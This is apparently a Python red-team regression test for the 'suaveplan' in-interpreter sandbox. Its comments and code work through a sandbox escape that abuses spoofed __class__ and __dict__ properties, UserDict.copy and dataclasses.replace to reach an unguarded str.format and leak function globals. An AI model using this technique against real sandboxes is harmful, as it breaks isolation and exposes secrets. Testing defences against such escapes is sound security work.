# mypy: ignore-errors
# Technique: `collections.UserDict.copy()` runs `UserDict.__copy__`, which does
# `inst = self.__class__.__new__(self.__class__)` and `inst.__dict__.update(self.__dict__)`.
# A plugin subclass answers `__class__` and `__dict__` itself (properties), so trusted code
# wrote any keys into the real dict of an object the plugin chose: an instance
# `__dataclass_fields__` holding a field named `format`. `dataclasses.replace()` trusts
# it and reads `getattr(obj, "format")` natively: the unguarded `str.format` of a `str`
# subclass, with a template reading `{0.__globals__}`. Found in the eighth red-team pass of
# the in-interpreter layer; was a real in-interpreter escape (dunder values as text,
# 3.11-3.13) before the fix.
import collections
import dataclasses

from suaveplan import fs

U = "_" * 2
got = []


class Collector:
    def __init__(self, **kwargs):
        got.append(kwargs)


@dataclasses.dataclass(init=False)
class Target(str):
    def update(self, other):
        pass

    @property
    def __class__(self):
        return Collector


premade = Target("{0." + U + "globals" + U + "}")


class Maker:
    def __new__(cls, *args):
        return premade


forged = dataclasses.field()
forged.name = "format"


class Source(collections.UserDict):
    @property
    def __class__(self):
        return Maker

    @property
    def __dict__(self):
        return {"data": {}, U + "dataclass_fields" + U: {"format": forged}}


def attack(secret_path, canary_path):
    Source().copy()
    dataclasses.replace(premade)
    text = got[-1]["format"](fs.read_text)
    if "'_b'" in text:
        print("SANDBOX-" + "ESCAPED")
    return text[:200]
